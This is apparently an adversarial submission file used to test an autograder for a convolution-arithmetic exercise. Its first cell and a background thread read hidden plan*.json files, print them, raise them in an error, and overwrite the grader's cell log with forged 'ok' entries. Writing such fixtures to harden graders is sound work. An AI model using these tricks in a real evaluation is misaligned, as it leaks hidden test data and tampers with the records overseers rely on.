"""Hostile: tries to carry the hidden checks' inputs into what the student sees.

A cell prints every plan file it can find; conv_params raises with their contents; a thread
keeps printing them and rewriting the old cells' log file with them, for 20 s at most (the
grader no longer reads that file: the cells' log is an event, frozen before the hidden part is
sent). Forged events are forges_conversation.py's attack. Everything else is correct.
"""
# %%
import glob
import json
import os
import threading
import time


def _plans():
    found = sorted(glob.glob(os.path.join(os.getcwd(), "..", "plan*.json")))
    return " | ".join(open(path).read() for path in found)


print("PLANS:", _plans())


def _forge():
    out = os.path.join(os.getcwd(), "..", "out")
    for _ in range(400):                      # at most 20 s
        time.sleep(0.05)
        leak = _plans()
        try:
            with open(os.path.join(out, "cells.json"), "w") as cells:
                json.dump([{"index": 0, "status": "ok", "output": "LEAK " + leak}], cells)
            print("LEAK", leak, flush=True)
        except OSError:
            return


threading.Thread(target=_forge, daemon=True).start()


# %%
import math


def conv_params(n, c_in, c_out, bias=True):
    raise ValueError("LEAK " + _plans())


def conv_output_size(w, n, stride=1, padding=0):
    if min(w, n, stride) < 1 or padding < 0 or n > w + 2 * padding:
        raise ValueError("bad arguments")
    return (w + 2 * padding - n) // stride + 1


def pool_output_size(w, z, stride=None, padding=0):
    return conv_output_size(w, z, z if stride is None else stride, padding)


def fully_connected_params(n_inputs, n_hidden):
    if min(n_inputs, n_hidden) < 1:
        raise ValueError("bad arguments")
    return n_inputs * n_hidden


def locally_connected_params(n_hidden, field):
    if min(n_hidden, field) < 1:
        raise ValueError("bad arguments")
    return n_hidden * field * field


def shared_weights_params(field, c_in=1, c_out=1):
    if min(field, c_in, c_out) < 1:
        raise ValueError("bad arguments")
    return field * field * c_in * c_out
